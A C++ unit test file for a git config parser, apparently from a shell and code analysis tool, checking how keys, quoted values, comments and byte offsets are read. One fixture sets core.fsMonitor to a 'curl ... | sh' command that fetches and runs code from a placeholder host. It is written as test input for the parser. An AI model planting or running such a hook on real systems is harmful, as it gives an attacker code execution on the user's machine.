// The git config file reader shared by the shell walker and the code analyser.
#include <catch2/catch.hpp>

#include "analysis/shell/git_config.h"

using toolwall::shell::git_config_entries;

TEST_CASE("a git config file's settings are read as git reads them, each value byte at its place") {
  std::string text =
      "# user settings\n"
      "[Core]\n"
      "\tfsMonitor = \"curl -s https://x.example/m\" | sh\n"
      "[diff \"PDF\"]\r\n"
      "  textconv = pdftotext \\\"$1\\\" -   ; a comment\n"
      "[alias]\n"
      "\tst = status;sb\n"
      "\tbare\n";
  auto entries = git_config_entries(text);
  REQUIRE(entries.size() == 4);
  CHECK(entries[0].key == "core.fsMonitor");  // the section in lower case, the name as written
  CHECK(entries[0].value == "curl -s https://x.example/m | sh");
  CHECK(entries[1].key == "diff.PDF.textconv");  // a subsection keeps its case
  CHECK(entries[1].value == "pdftotext \"$1\" -");
  CHECK(entries[2].value == "status;sb");  // a ; with no blank before it is kept (see git_config.cpp)
  CHECK(entries[3].key == "alias.bare");
  CHECK(entries[3].value.empty());
  for (const auto& entry : entries) {
    INFO(entry.key);
    REQUIRE(entry.offsets.size() == entry.value.size());
    for (size_t i = 0; i < entry.value.size(); ++i) {
      // Each byte comes from its offset: the escaped quote from the quote after its backslash.
      CHECK(text[entry.offsets[i]] == entry.value[i]);
    }
  }
  CHECK(text.substr(entries[0].offsets.front(), 4) == "curl");
}

TEST_CASE("a git config file with no settings, or only a broken header, gives none") {
  CHECK(git_config_entries("").empty());
  CHECK(git_config_entries("pager = before any section\n[core\n\tpager = less\n").empty());
  CHECK(git_config_entries("\n\n; only comments\n# here\n").empty());
}
